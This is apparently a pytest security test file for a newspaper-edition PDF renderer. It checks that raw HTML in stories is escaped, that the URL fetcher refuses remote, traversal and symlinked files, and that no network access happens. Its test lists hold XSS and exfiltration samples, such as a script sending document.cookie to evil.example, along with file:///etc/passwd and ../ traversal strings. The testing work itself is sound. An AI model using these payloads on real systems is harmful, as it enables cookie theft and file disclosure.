"""No escape from the edition folder: hostile story content never reaches the renderer as markup,
the renderer's URL fetcher refuses everything but files inside the edition, layouts/ and fonts/,
no network connection is attempted, and no outside file's content appears in any output.

Where HTML from input could be passed through: nowhere.  Story Markdown is parsed with raw HTML
disabled (load.parse_body) into plain-text runs, every run is escaped when it becomes HTML
(measure.runs_html), and every front-matter field reaches the page through Jinja's autoescape.
So there is nothing for a sanitiser (nh3) to clean; these tests pin that down.
"""

from __future__ import annotations

import html
import re
import socket
from pathlib import Path

import pytest
from pypdf import PdfReader
from pypdf.generic import StreamObject

from gp_print.build import build_edition
from gp_print.errors import FetchRefused, InputError
from gp_print.fetch import allowed_roots, check_local, make_fetcher, refusals_as_errors
from gp_print.layouts import environment
from gp_print.load import _Collector, load_story, parse_body
from gp_print.measure import runs_html
from gp_print.paths import FONTS_DIR, LAYOUTS_DIR

TOKEN = "GP-SENTINEL-4b1d0e77-never-in-output"
LIBRARY = "stories/news-library-hours.md"
ALLOWED_TAGS = re.compile(r'</?(?:i|b)>|<span class="initial">|</span>')

HOSTILE_SNIPPETS = [
    '<script>fetch("http://evil.example/steal?c="+document.cookie)</script>',
    "<style>@import url(http://evil.example/x.css); p { background: url(file:///etc/passwd) }</style>",
    '<iframe src="http://evil.example/frame"></iframe>',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    '<img src="http://evil.example/pixel.png" onerror="alert(1)">',
    '<img src="file:///etc/passwd">',
    '<img src="../../../../etc/passwd">',
    '<a href="javascript:alert(1)" onclick="alert(2)">click</a>',
    '<object data="file:///etc/passwd"></object><embed src="http://evil.example/e.swf">',
    '<svg><image href="http://evil.example/i.png"/></svg>',
    '<div style="background-image: url(https://evil.example/bg.png)">x</div>',
    "<!-- comment --><![CDATA[ cdata ]]><?php echo 1; ?>",
    "&lt;script&gt; already escaped &amp; &#60;b&#62;",
]


# ----------------------------------------------------------------------------- markdown → HTML


def _html_of(markdown: str) -> str:
    return "".join(str(runs_html(p)) for p in parse_body(markdown))


def _markup_free(html_text: str) -> bool:
    """No tag but the ones runs_html itself makes."""
    return "<" not in ALLOWED_TAGS.sub("", html_text)


@pytest.mark.parametrize("snippet", HOSTILE_SNIPPETS)
@pytest.mark.parametrize("where", ["own-paragraph", "inline", "emphasised"])
def test_raw_html_in_a_story_is_text(snippet, where):
    markdown = {"own-paragraph": f"Before.\n\n{snippet}\n\nAfter.",
                "inline": f"The council said {snippet} on Monday.",
                "emphasised": f"*Quoted: {snippet}* and **{snippet}**"}[where]
    paragraphs = parse_body(markdown)
    out = _html_of(markdown)
    assert _markup_free(out), out
    # What the reader sees is the characters that were typed (markdown may eat some punctuation
    # such as backslashes or emphasis marks, and typographer quotes change " to “ ”): the text,
    # unescaped, contains every tag name of the snippet as plain text.
    text = html.unescape(ALLOWED_TAGS.sub("", out))
    assert text == "".join(p.text for p in paragraphs)
    for tag in re.findall(r"<\s*([a-z]+)", snippet):
        assert f"<{tag}" in text


@pytest.mark.parametrize("markdown", [
    "![chart](http://evil.example/chart.png)",
    "![secret](../../../../etc/passwd)",
    '![x](file:///etc/passwd "title")',
    "[our site](https://evil.example/) and <https://evil.example/auto> and <file:///etc/passwd>",
    "[ref][1]\n\n[1]: http://evil.example/ref",
    "```html\n<script src=http://evil.example/x.js></script>\n```",
    "    <iframe src=http://evil.example/></iframe>",
])
def test_links_and_images_become_text_never_urls(markdown):
    out = _html_of(markdown)
    assert _markup_free(out), out
    assert not re.search(r"<[^>]*\b(?:href|src)\s*=", out), out


def test_story_fields_are_escaped_by_the_templates(minimal_edition):
    """Headline, kicker, standfirst, byline, caption and credit go through Jinja's autoescape."""
    hostile = "<script>alert(1)</script><img src='http://evil.example/x.png'>"
    path = minimal_edition.path("stories/news-harbour-dredging.md")
    text = path.read_text(encoding="utf-8")
    for field in ("headline", "kicker", "standfirst", "byline", "caption", "credit"):
        text = re.sub(rf'^{field} = "(.*)"$', lambda m, f=field: f'{f} = "{m.group(1)} {hostile}"', text,
                      count=1, flags=re.M)
    path.write_text(text, encoding="utf-8")
    collector = _Collector(minimal_edition.root)
    story = load_story(path, minimal_edition.root, {"news", "sport"}, collector, _limits())
    assert story is not None, collector.problems
    macros = environment().get_template("partials/story.html.j2").module
    rendered = str(macros.head(story, 30, True, None)) + str(macros.caption(story.photos[0]))  # type: ignore[attr-defined]
    assert "<script" not in rendered and "<img" not in rendered
    assert rendered.count("&lt;script&gt;") == 6


def _limits():
    from gp_print.load import Limits

    return Limits()


# ----------------------------------------------------------------------------- the fetcher


@pytest.fixture
def walled(tmp_path):
    """An edition folder with a photo, a sentinel file outside it, and symlinks pointing out."""
    edition = tmp_path / "edition"
    (edition / "photos").mkdir(parents=True)
    photo = edition / "photos" / "ok.jpg"
    photo.write_bytes(b"\xff\xd8\xff\xe0 not really a jpeg but inside")
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text(TOKEN)
    (edition / "photos" / "escape.jpg").symlink_to(secret)
    (edition / "photos" / "passwd.jpg").symlink_to("/etc/passwd")
    (edition / "linked-dir").symlink_to(outside, target_is_directory=True)
    return {"edition": edition, "photo": photo, "secret": secret, "roots": allowed_roots(edition)}


@pytest.mark.parametrize("url", [
    "http://example.com/x.png",
    "https://example.com/x.css",
    "HTTP://EXAMPLE.COM/X.PNG",
    "ftp://example.com/x",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:text/css,p{color:red}",
    "gopher://example.com/",
    "javascript:alert(1)",
    "file://evil.example/etc/passwd",
    "//example.com/x.png",
    "x.png",
])
def test_fetcher_refuses_anything_but_local_files(walled, url):
    with pytest.raises(FetchRefused, match="refused"):
        check_local(url, walled["roots"])


def test_fetcher_serves_files_inside_the_edition_layouts_and_fonts(walled):
    assert check_local(walled["photo"].as_uri(), walled["roots"]) == walled["photo"].resolve()
    css = LAYOUTS_DIR.resolve() / "css" / "story.css"
    assert check_local(css.as_uri(), walled["roots"]) == css
    font = next(FONTS_DIR.resolve().rglob("*.ttf"))
    assert check_local(font.as_uri(), walled["roots"]) == font
    assert check_local("file://localhost" + str(walled["photo"].resolve()), walled["roots"]).is_file()


def test_fetcher_refuses_files_outside_the_roots(walled):
    for target in ("/etc/passwd", str(walled["secret"]), str(walled["edition"].parent)):
        with pytest.raises(FetchRefused, match="outside the edition"):
            check_local(Path(target).as_uri() if target.startswith("/") else target, walled["roots"])


@pytest.mark.parametrize("rel", [
    "photos/../../outside/secret.txt",
    "photos/../../../../../../../etc/passwd",
    "photos/%2e%2e/%2e%2e/outside/secret.txt",
])
def test_fetcher_refuses_dot_dot_traversal(walled, rel):
    url = "file://" + str(walled["edition"]) + "/" + rel
    with pytest.raises(FetchRefused, match="outside the edition"):
        check_local(url, walled["roots"])


@pytest.mark.parametrize("rel", ["photos/escape.jpg", "photos/passwd.jpg", "linked-dir/secret.txt"])
def test_fetcher_refuses_symlinks_pointing_out_of_the_edition(walled, rel):
    with pytest.raises(FetchRefused, match="outside the edition"):
        check_local((walled["edition"] / rel).as_uri(), walled["roots"])


@pytest.mark.parametrize("url", ["file:///tmp/a%00b", "file:///" + "x" * 5000])
def test_fetcher_refuses_unusable_names_cleanly(walled, url):
    with pytest.raises(FetchRefused):
        check_local(url, walled["roots"])


def test_weasyprint_with_the_walled_fetcher_stops_with_a_clean_error(walled):
    """The second wall in place: if markup with a remote or outside URL ever reached WeasyPrint,
    the render stops with FetchRefused (one line), not a warning and not a traceback."""
    import weasyprint

    for markup in ('<img src="http://example.com/x.png">',
                   f'<img src="{walled["secret"].as_uri()}">',
                   '<p style="background: url(https://example.com/bg.png)">x</p>',
                   '<link rel="stylesheet" href="ftp://example.com/x.css"><p>x</p>'):
        with pytest.raises(FetchRefused, match="refused"), refusals_as_errors():
            weasyprint.HTML(string=markup, base_url=str(LAYOUTS_DIR) + "/",
                            url_fetcher=make_fetcher(walled["edition"])).render()


def test_fetcher_fetch_returns_only_allowed_bytes(walled):
    fetcher = make_fetcher(walled["edition"])
    response = fetcher.fetch(walled["photo"].as_uri())
    assert response.read() == walled["photo"].read_bytes()
    from weasyprint.urls import FatalURLFetchingError

    with pytest.raises(FatalURLFetchingError) as info:
        fetcher.fetch((walled["edition"] / "photos" / "escape.jpg").as_uri())
    assert TOKEN not in str(info.value)


# ----------------------------------------------------------------------------- end to end


class NetworkAttempt(AssertionError):
    pass


@pytest.fixture
def socket_guard(monkeypatch):
    """Every way Python opens a connection or resolves a name raises, and is recorded."""
    attempts: list[str] = []

    def refuse(name):
        def _refuse(*args, **kwargs):
            attempts.append(f"{name}{args[1:] if name.startswith('socket.') else args}")
            raise NetworkAttempt(f"network access attempted: {name}{args}")
        return _refuse

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
    monkeypatch.setattr(socket.socket, "sendto", refuse("socket.sendto"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("gethostbyname"))
    return attempts


def test_the_socket_guard_works(socket_guard):
    with pytest.raises(NetworkAttempt):
        socket.create_connection(("example.com", 80), timeout=1)
    with socket.socket() as sock, pytest.raises(NetworkAttempt):
        sock.connect(("127.0.0.1", 9))
    assert len(socket_guard) == 2


def _pdf_strings(path: Path) -> tuple[str, bytes]:
    """All text pypdf extracts from the PDF, and the raw file plus every stream, decompressed."""
    reader = PdfReader(path)
    text = "\n".join(page.extract_text() or "" for page in reader.pages)
    blobs = [path.read_bytes()]
    ids = {idnum for per_gen in reader.xref.values() for idnum in per_gen} | set(reader.xref_objStm)
    for idnum in sorted(ids):
        try:
            obj = reader.get_object(idnum)
        except Exception:  # a free or odd entry: nothing to read
            continue
        if isinstance(obj, StreamObject):
            try:
                blobs.append(obj.get_data())
            except Exception:
                blobs.append(obj._data)
    return text, b"\n".join(blobs)


def test_hostile_story_builds_offline_and_leaks_nothing(minimal_edition, tmp_path, socket_guard, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)  # the build sets it; keep it out of other tests
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text(f"{TOKEN}\n", encoding="utf-8")
    link = minimal_edition.root / "photos" / "innocent.txt"
    link.symlink_to(secret)  # inside the edition, pointing out; named nowhere the loader checks
    secret_uri = secret.as_uri()
    body = "\n\n".join([
        "The library will open late on Thursdays, the council said on Monday.",
        f'<script>fetch("http://evil.example/s")</script> <img src="{secret_uri}" onerror="alert(1)">',
        f"<style>@import url(http://evil.example/x.css); p {{ background: url({secret_uri}) }}</style>",
        '<iframe src="https://evil.example/f"></iframe> <link rel="stylesheet" href="https://evil.example/s.css">',
        "See ![chart](http://evil.example/c.png) and ![s](../../outside/secret.txt) and ![l](photos/innocent.txt).",
        f"Visit [the site](https://evil.example/) or <https://evil.example/auto> or <{secret_uri}>.",
        "Readers who want evening hours should say so.",
    ])
    path = minimal_edition.path(LIBRARY)
    text = path.read_text(encoding="utf-8")
    front = text[: text.index("\n+++\n") + 5]
    front = front.replace('byline = "By Tom Ogier"', 'byline = "By Tom <b onclick=x>Ogier</b>"\n'
                          f'kicker = "<img src={secret_uri}>"')
    path.write_text(front + body + "\n", encoding="utf-8")

    out = tmp_path / "out"
    # One worker: the page renderer runs in this process, where the socket guard is.
    result = build_edition(minimal_edition.root, out, workers=1)

    assert socket_guard == [], f"network access attempted: {socket_guard}"
    placed = {slot.story.slug for page in result.flatplan.pages for slot in page.stories}
    assert "news-library-hours" in placed, result.warnings
    pdfs = sorted(out.glob("*.pdf"))
    assert len(pdfs) == 3
    everything = ""
    for pdf in pdfs:
        text, raw = _pdf_strings(pdf)
        everything += text
        assert TOKEN not in text, f"{pdf.name}: the outside file's content is in the text"
        assert TOKEN.encode() not in raw, f"{pdf.name}: the outside file's content is in the bytes"
        assert TOKEN.encode("utf-16-be") not in raw
    # …and the hostile markup was printed as the text it is.
    flat = " ".join(everything.split())
    assert "<script>" in flat.replace(" ", "") or "<scr" in flat, flat[:2000]
    assert "evil.example" in flat.replace(" ", "").replace("-\n", "")


def test_a_photo_symlink_out_of_the_edition_is_refused_with_a_clear_problem(minimal_edition, tmp_path):
    secret = tmp_path / "secret.jpg"
    secret.write_bytes((minimal_edition.root / "photos" / "harbour-dawn.jpg").read_bytes())
    photo = minimal_edition.path("photos/harbour-dawn.jpg")
    photo.unlink()
    photo.symlink_to(secret)
    with pytest.raises(InputError) as info:
        minimal_edition.load()
    assert len(info.value.problems) == 1
    assert "outside the edition folder (it is a link to a file elsewhere)" in str(info.value)
